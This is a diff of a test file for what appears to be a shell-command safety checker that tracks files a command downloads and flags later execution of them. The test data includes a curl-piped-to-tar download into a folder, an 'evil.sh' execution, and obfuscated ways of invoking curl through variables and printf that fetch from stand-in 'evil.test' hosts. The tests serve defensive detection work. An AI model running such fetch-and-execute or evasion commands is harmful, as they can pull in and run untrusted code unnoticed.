@@ -550,6 +550,23 @@ describe("what a command adds to a folder it downloads into", () => {
     expect(downloadExecution("bash tool/install.sh", facts.downloadedFiles)).toBeDefined();
   });
 
+  // An extraction into `.` writing into a folder that was there changes neither `.`'s entries nor
+  // the folder's parent's: only the top level was listed, so `bash src/lib/evil.sh` ran unasked.
+  it("records what it wrote into the folders within, however deep", async () => {
+    const command = "curl -sL https://x.test/a.tgz | tar xz";
+    const ws = await realpath(await mkdtemp(path.join(tmpdir(), "folder-adds-")));
+    await mkdir(path.join(ws, "src", "lib"), { recursive: true });
+    await writeFile(path.join(ws, "src", "lib", "ok.sh"), "echo ok\n");
+    const facts = { downloadedFiles: new Set<string>() };
+    const listed = await listDownloadFolders(command, ws, facts);
+    await writeFile(path.join(ws, "src", "lib", "evil.sh"), "echo evil\n");
+    await writeFile(path.join(ws, "src", "lib", "ok.sh"), "echo evil too\n");
+    await recordDownloads(command, ws, facts, listed);
+    expect(downloadExecution("bash src/lib/evil.sh", facts.downloadedFiles)).toBeDefined();
+    expect(downloadExecution("sh src/lib/ok.sh", facts.downloadedFiles)).toBeDefined();
+    expect(downloadExecution("cat notes.md", facts.downloadedFiles)).toBeUndefined();
+  });
+
   it("records none one by one when more than 1,000 entries changed (the folder stays recorded)", async () => {
     const { ws, record } = await setUp("wget -i urls.txt");
     for (let i = 0; i < 1_001; i++) await writeFile(path.join(ws, `f${i}.sh`), "x\n");
@@ -587,7 +604,7 @@ describe("a downloader named by an expansion", () => {
   // The line's text does not say which program it is, nor need it name the URL: gating on a URL or
   // a downloader's name on the line let these write evil.sh unrecorded.
   it.each([
-    "C=cu; $C\"rl\" -o evil.sh evil.test/x.sh",
+    'C=cu; $C"rl" -o evil.sh evil.test/x.sh',
     "C=$(printf 'cu%s' rl); $C -o evil.sh evil.test/x.sh",
     "C=c; C+=url; $C -o evil.sh -K cfg",
     'for f in *.md; do "$TOOL" "$f"; done',
